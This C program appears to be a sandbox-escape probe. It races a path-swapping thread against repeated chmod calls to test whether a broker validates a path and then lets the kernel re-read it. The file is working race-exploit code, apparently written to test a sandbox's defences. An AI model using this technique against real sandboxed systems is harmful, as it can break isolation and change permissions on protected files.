/* Escape attempt against the broker: one thread flips a path buffer between a file the guest
 * may change (argv[1]) and one it may not (argv[2]) while another thread keeps chmod'ing
 * whatever the buffer names. A host that checked the path and then let the kernel re-read it
 * would sooner or later change argv[2]'s mode. */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static char path[512];
static volatile int stop;
static const char *allowed, *forbidden;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        strcpy(path, allowed);
        strcpy(path, forbidden);
    }
    return NULL;
}

int main(int argc, char **argv) {
    allowed = argv[1];
    forbidden = argv[2];
    int rounds = argc > 3 ? atoi(argv[3]) : 3000;
    strcpy(path, allowed);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int changed = 0;
    for (int i = 0; i < rounds; i++) changed += chmod(path, 0600) == 0;
    stop = 1;
    pthread_join(t, NULL);
    printf("chmod succeeded %d times\n", changed);
    return 0;
}
